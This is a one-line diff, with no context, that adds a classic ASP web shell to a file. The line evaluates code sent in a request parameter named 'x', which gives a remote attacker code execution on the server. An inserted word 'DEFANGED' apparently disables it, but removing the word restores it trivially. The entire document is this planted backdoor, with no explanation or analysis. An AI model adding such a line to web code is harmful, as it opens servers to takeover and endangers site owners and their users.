@@ -1,0 +1,1 @@
+<%eval request(DEFANGED "x")%>
